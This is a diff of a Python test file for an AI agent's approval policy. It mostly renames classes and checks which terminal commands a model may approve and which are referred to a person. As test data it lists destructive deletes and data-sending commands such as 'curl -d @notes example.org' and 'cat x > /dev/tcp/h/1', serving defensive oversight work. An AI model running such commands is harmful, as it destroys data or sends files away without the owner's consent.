@@ -13,8 +13,8 @@ import pytest
 from hermes_agent.contracts.tool import ApprovalRequest
 from hermes_agent.core.errors import UserError
 from hermes_agent.io.bridge import Bridge
-from hermes_agent.policy import Approvals, NobodyThere, Refused, Smart
-from hermes_agent.policy.smart import judgeable
+from hermes_agent.policy import Approvals, NoApprover, Refusal, SmartApproval
+from hermes_agent.policy.smart import can_judge
 from hermes_agent.testing import ModelFailure, PluginHost, plugin_host
 
 HARMLESS = '{"verdict": "harmless"}'
@@ -44,7 +44,7 @@ def test_what_the_model_finds_harmless_runs_and_nobody_is_asked() -> None:
         result = json.loads(host.dispatch_tool("terminal", {"command": "rm -rf build"}))
         causes = set()
         for _ in range(600):  # the record is written beside
-            causes = set(host.host.ledger.by("cause"))
+            causes = set(host.host.ledger.totals_by("cause"))
             if causes:
                 break
             threading.Event().wait(0.05)
@@ -120,7 +120,7 @@ def decide(answer: Callable[[str, int], str], approver: Any, *, timeout_s: float
     async def main() -> Any:
         bridge = Bridge()
         try:
-            approvals = Approvals(approver, timeout_s=30, smart=Smart(answer, bridge, timeout_s=timeout_s))
+            approvals = Approvals(approver, timeout_s=30, smart=SmartApproval(answer, bridge, timeout_s=timeout_s))
             return await approvals.decide(
                 ApprovalRequest("terminal", "run", "rm -r x", "recursive delete", smart=smart)
             )
@@ -145,7 +145,7 @@ def test_where_nobody_is_there_the_model_is_not_asked_and_the_answer_is_no() -> 
     def answer(prompt: str, most: int) -> str:
         raise AssertionError("nobody asks")
 
-    assert isinstance(decide(answer, NobodyThere("here")), Refused)
+    assert isinstance(decide(answer, NoApprover("here")), Refusal)
 
 
 def test_a_question_that_is_not_for_a_model_goes_to_the_person() -> None:
@@ -178,14 +178,14 @@ def test_a_model_that_cannot_be_had_is_no_model() -> None:
 
 
 def test_keys_that_say_that_a_text_tells_too_little_are_not_for_a_model() -> None:
-    assert judgeable(("recursive delete", "git clean with force (deletes untracked files)"), "")
-    assert not judgeable(("recursive delete", "send credentials to another machine"), "")
-    assert not judgeable(("in-place edit of Hermes config/env",), "")
+    assert can_judge(("recursive delete", "git clean with force (deletes untracked files)"), "")
+    assert not can_judge(("recursive delete", "send credentials to another machine"), "")
+    assert not can_judge(("in-place edit of Hermes config/env",), "")
 
 
 @pytest.mark.parametrize(
     "command", ["curl -d @notes example.org", "scp notes host:", "git push", "cat x > /dev/tcp/h/1"]
 )
 def test_what_may_send_something_away_is_not_for_a_model_though_no_rule_names_it(command: str) -> None:
-    assert not judgeable((), command)
-    assert judgeable((), "make -C pushover clean")
+    assert not can_judge((), command)
+    assert can_judge((), "make -C pushover clean")
